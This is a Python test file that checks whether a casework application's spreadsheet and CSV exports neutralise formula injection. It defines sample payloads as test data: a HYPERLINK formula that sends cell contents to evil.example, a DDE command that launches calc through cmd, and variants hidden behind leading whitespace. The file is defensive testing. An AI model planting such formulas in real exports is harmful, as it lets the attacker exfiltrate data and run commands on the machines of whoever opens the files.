"""Every XLSX/CSV writer, driven through the real app with formula-looking text in its data: the downloaded file
(opened with openpyxl / csv) holds no formula and no cell that a spreadsheet would run, while numbers stay numbers.

Writers: the shared one (casework.export: accounts, cases, contacts, legal, imports list, report drill-downs —
also walked route by route in test_injection.py), the documents registry export, the monthly form (XLSX, CSV),
the measures report (XLSX, CSV) and the import error file."""
from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook
from sqlalchemy import insert, select

from casework.accounts.models import Account, LedgerEntry, Service, Territory
from casework.accounts.services import refresh_account_figures
from casework.documents.context import load_common
from casework.documents.models import Document
from casework.documents.services import issue_document, prepare, record_delivery
from casework.enterprise.models import get_enterprise
from casework.extensions import db
from casework.imports.models import ImportBatch
from tests.factories import owned_flat

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Оплатить")'
DDE = "=cmd|' /C calc'!A0"
SUM = "@SUM(A1:A9)"
SPACED = "  -2+3+cmd|' /C calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _xlsx_cells(resp):
    """(text cells, number cells, formula cells) of a downloaded workbook, opened with openpyxl."""
    assert resp.status_code == 200 and resp.data[:2] == b"PK", resp.status_code
    wb = load_workbook(io.BytesIO(resp.data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    return ([c.value for c in cells if c.data_type == "s"], [c.value for c in cells if c.data_type == "n"],
            [c.value for c in cells if c.data_type == "f"])


def _csv_cells(resp, delimiter=";"):
    assert resp.status_code == 200, resp.status_code
    text = resp.get_data().decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


def _assert_defused(texts, *hostile):
    """No cell would run (after leading whitespace too), and each hostile text is there, defused with a «'»."""
    for cell in texts:
        assert not cell.lstrip().startswith(DANGEROUS) and not cell.startswith(DANGEROUS), cell
    for h in hostile:
        assert any(c.startswith("'") and h in c for c in texts), (h, texts)


def test_documents_export_defuses_debtor_names_delivery_proofs_and_courts(client, login):
    acc = owned_flat(owners=1)
    acc.debtor_name = HYPERLINK
    acc.parties[0].party.full_name = HYPERLINK
    db.session.flush()
    notice = issue_document(prepare("notice_debt", account_id=acc.id, common=load_common({}, date(2026, 11, 22))),
                            log_contact=False)
    record_delivery(notice, date(2026, 11, 22), "registered_mail", DDE, today=date(2026, 11, 23))
    court = issue_document(prepare("court_order_application", account_id=acc.id,
                                   common=load_common({"court_name": SUM, "court_address": "ул. Суворова, д. 2"},
                                                      date(2026, 11, 22))), log_contact=False)
    db.session.commit()
    assert court.addressee == SUM and notice.addressee == HYPERLINK
    login("manager")
    texts, numbers, formulas = _xlsx_cells(client.get("/documents/export.xlsx"))
    assert formulas == []
    _assert_defused(texts, HYPERLINK, DDE, SUM)
    assert Decimal(str(max(numbers))) == Decimal(court.amount_kop) / 100  # the amounts are numbers
    assert {notice.number, court.number} <= set(texts)


def test_shared_writer_defuses_text_after_leading_whitespace_in_accounts_export(client, login):
    db.session.add_all([Account(number="7000001", category="population", debtor_name=SPACED, address=" " + DDE),
                        Account(number="7000002", category="population", debtor_name="\t" + SUM, address="ул. 1")])
    db.session.commit()
    login("collector")
    texts, _numbers, formulas = _xlsx_cells(client.get("/accounts/export.xlsx"))
    assert formulas == []
    _assert_defused(texts, SPACED, DDE, SUM)
    cells = _csv_cells(client.get("/accounts/export.csv"))
    _assert_defused(cells, SPACED, DDE, SUM)


def _negative_opening(month: date) -> None:
    """An account that paid 100 rubles before it was charged anything (50 in `month`): its debt at the start of
    `month` is −100 rubles."""
    acc = Account(number="8000001", category="population", debtor_name="Иванов И. И.", address="ул. 1")
    db.session.add(acc)
    db.session.flush()
    svc = db.session.scalar(select(Service.id).where(Service.code == "heating"))
    db.session.execute(insert(LedgerEntry), [dict(account_id=acc.id, service_id=svc, period=date(2026, 2, 1),
                                                  kind="payment", amount_kop=10_000, paid_on=date(2026, 2, 10),
                                                  source="bank", entry_key="neg-pay"),
                                             dict(account_id=acc.id, service_id=svc, period=month, kind="charge",
                                                  amount_kop=5_000, entry_key="neg-charge")])
    refresh_account_figures([acc.id], as_of=month)


def test_monthly_form_xlsx_defuses_enterprise_and_signatory_and_keeps_numbers(client, login):
    _negative_opening(date(2026, 3, 1))
    ent = get_enterprise()
    ent.name, ent.signatory_name, ent.signatory_position = HYPERLINK, SUM, DDE
    db.session.commit()
    login("manager")
    texts, numbers, formulas = _xlsx_cells(client.get("/reports/monthly/2026-03/export/xlsx"))
    assert formulas == []
    _assert_defused(texts, HYPERLINK, SUM, DDE)
    assert -0.1 in numbers  # −100 rubles in thousands: still a number
    cells = _csv_cells(client.get("/reports/monthly/2026-03/export/csv"), delimiter=",")
    assert "-100.00" in cells  # a real number is not prefixed
    _assert_defused([c for c in cells if c != "-100.00"])


def test_measures_report_xlsx_and_csv_defuse_territory_and_enterprise_names(client, login):
    terr = Territory(name=HYPERLINK)
    db.session.add(terr)
    ent = get_enterprise()
    ent.name, ent.signatory_name = DDE, SUM
    db.session.commit()
    login("manager")
    url = f"/reports/measures?month=2026-03&group=territory&territory={terr.id}"
    texts, numbers, formulas = _xlsx_cells(client.get(url + "&export=xlsx"))
    assert formulas == []
    _assert_defused(texts, HYPERLINK, DDE, SUM)
    assert 0 in numbers  # counts are numbers
    cells = _csv_cells(client.get(url + "&export=csv"))
    _assert_defused(cells, HYPERLINK)


def test_import_error_file_gives_the_bad_cells_back_defused(client, login):
    data = ("ЛС;Период;Услуга;Вид;Сумма;Дата оплаты;" + DDE + "\n"
            "100001;2025-01;heating;начисление;100,50;;\n"
            f"\"{HYPERLINK.replace(chr(34), chr(34) * 2)}\";2025-01;heating;начисление;1;;x\n"
            f"100001;{SUM};heating;начисление;-5;;\n").encode()
    db.session.add(Account(number="100001", category="population", debtor_name="Иванов И. И.", address="ул. 1"))
    db.session.commit()
    login("manager")
    resp = client.post("/imports/new", data={"kind": "ledger", "file": (io.BytesIO(data), "ledger.csv")},
                       content_type="multipart/form-data")
    assert resp.status_code == 302
    resp = client.post(resp.headers["Location"], data={"skip_bad_rows": "y"})
    batch = db.session.scalar(select(ImportBatch).order_by(ImportBatch.id.desc()))
    assert batch.status == "committed" and batch.rows_skipped == 2, batch.options
    resp = client.get(f"/imports/{batch.id}/errors.csv")
    cells = _csv_cells(resp)
    resp.close()
    assert "-5" in cells  # the amount of the bad row comes back as the number it was
    _assert_defused([c for c in cells if c != "-5"], HYPERLINK, SUM, DDE)


def test_the_documents_export_is_still_a_registry(client, login):
    """The export through the shared writer keeps its columns: number, date, amount as a number, delivery."""
    acc = owned_flat()
    doc = issue_document(prepare("notice_debt", account_id=acc.id, common=load_common({}, date(2026, 11, 22))),
                         log_contact=False)
    record_delivery(doc, date(2026, 11, 22), "registered_mail", "80080012345678", today=date(2026, 11, 23))
    db.session.commit()
    login("lawyer")
    resp = client.get("/documents/export.xlsx")
    ws = load_workbook(io.BytesIO(resp.data)).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][0] == "Номер" and len(rows) == 2
    number, issued, _title, _to, account, amount, delivered, _method, proof, sha = rows[1]
    assert number == doc.number and issued.date() == date(2026, 11, 22) and delivered.date() == date(2026, 11, 22)
    assert account == acc.number and Decimal(str(amount)) == Decimal(doc.amount_kop) / 100
    assert proof == "80080012345678" and sha == doc.sha256
    assert db.session.scalar(select(Document.id)) == doc.id
